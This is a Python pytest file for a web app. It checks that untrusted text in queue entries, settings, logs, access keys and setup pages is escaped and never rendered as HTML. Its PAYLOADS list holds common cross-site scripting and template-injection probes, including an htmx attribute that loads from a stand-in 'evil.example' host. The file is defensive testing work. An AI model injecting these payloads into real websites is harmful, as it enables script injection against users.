"""Foreign texts in queue, settings, log and first run never become markup."""

import logging
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from attrs import evolve
from selectolax.lexbor import LexborHTMLParser
from starlette.applications import Starlette

from aniworld_core.clock import utc_now
from aniworld_core.config import load
from aniworld_core.entities import EpisodeId, Outcome, QueueState, Scope
from aniworld_core.errors import RateLimited
from aniworld_core.library import Library
from aniworld_core.plugins import PluginManager
from aniworld_core.services.settings import Settings
from aniworld_core.testing.arrange import show
from aniworld_core.testing.world import World
from aniworld_web.app import create_app
from aniworld_web.site import Site

LEASE = timedelta(hours=1)
Shape = Counter[tuple[str, ...]]
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" hx-get="//evil.example/" hx-trigger="load',
    '\'}" hx-on:click="alert(1)',
    "{{ 7 * 7 }}{% include 'base.html' %}%(name)s%s",
    "--><script>alert(1)</script>",
    "javascript:alert(1)",
)


@pytest.fixture
def library(world: World, root: Path, tmp_path: Path) -> Iterator[Library]:
    file = tmp_path / "config.toml"
    file.write_text(
        f'library = "{root}"\ndata = "{tmp_path / "data"}"\nstore = "memory:"\n\n'
        "[downloads]\nreserve = 0\n\n[plugins.web]\ndownload = false\n"
    )
    manager = PluginManager()
    manager.add(world, "world")
    with Library.open(load(file, environment={}), plugins=manager) as library:
        yield library


@pytest.fixture
def app(library: Library, tmp_path: Path) -> Starlette:
    file = tmp_path / "config.toml"
    return create_app(library, settings=Settings(file), load=lambda: load(file, environment={}))


def arrange(site: Site, world: World, payload: str) -> None:
    library = site.library
    series = show(*(EpisodeId(1, number) for number in range(1, 6)), key="fern")
    library.store.series.put(evolve(series, title=payload, folder=payload))
    library.queue.remove(*(item.id for item in library.queue.page()))
    library.queue.add("fern")
    queue, now = library.store.queue, utc_now()
    for state in (QueueState.DONE, QueueState.FAILED):
        item = queue.claim("ann", LEASE, now)
        assert item is not None
        queue.finish(item.id, item.claim, Outcome(state=state, reason=payload), now)
    item = queue.claim("ann", LEASE, now)
    assert item is not None
    queue.requeue(item.id, item.claim, now + LEASE, counted=False, reason=payload)
    queue.claim("ann", LEASE, now)
    for key in site.access.keys.all():
        site.access.remove_key(key.id)
    site.access.keys.add(payload, scope=Scope.READ)
    site.logs.add(logging.LogRecord(payload, logging.ERROR, __file__, 1, payload, None, None))
    world.provider_error = RateLimited(payload, retry_after=LEASE)


def seen(
    client: httpx.Client, site: Site, world: World, payload: str
) -> Iterator[tuple[str, httpx.Response]]:
    """Yield the pages that show a payload."""
    arrange(site, world, payload)
    for address in ("/queue", "/queue?show=failed", "/queue?show=waiting", "/settings/access"):
        yield address, client.get(address)
    key = site.access.keys.all()[0]
    yield "key", client.get(f"/settings/access/keys/{key.id}")
    yield "log", client.get("/system/logs?level=error")
    yield "folder", client.get("/setup/folder", params={"folder": payload})
    yield "refused folder", client.post("/setup/folder", data={"folder": payload, "create": "1"})
    fields = ("downloads.hosters", "downloads.attempts", "downloads.quality", "naming.template")
    for field in fields:
        given = {field: payload, "scanner.guard_share": payload}
        yield f"settings {field}", client.post("/settings", data=given)
        asked = {"field": field}
        yield f"check {field}", client.post("/settings/check", params=asked, data=given)
    made = client.post("/settings/access/keys", data={"name": payload, "days": payload})
    yield "refused key", made
    asked = {"show": payload, "after": payload, "next": payload, "before": payload}
    yield "log asked", client.get("/system/logs", params=asked | {"level": payload})
    for address in ("/queue", "/login", "/settings/backups"):
        yield f"{address} asked", client.get(address, params=asked)


def shape(text: str) -> Shape:
    """Count the elements of a page, each with the names of its attributes."""
    found: Shape = Counter()
    for node in LexborHTMLParser(text).css("*"):
        found[(node.tag or "", *sorted(node.attributes))] += 1
    return found


def test_foreign_texts_never_become_markup(client: httpx.Client, site: Site, world: World) -> None:
    plain = {name: shape(page.text) for name, page in seen(client, site, world, "plain " * 9)}
    for count, payload in enumerate(PAYLOADS, 2):
        for name, page in seen(client, site, world, payload):
            assert page.status_code < 500, (name, payload)
            if name.startswith("log"):  # it grows
                tree = LexborHTMLParser(page.text)
                assert not tree.css("#log img, #log script, #log [onload], #log [onmouseover]")
                assert len(tree.css(".log-text")) == count
            else:
                assert shape(page.text) == plain[name], (name, payload)
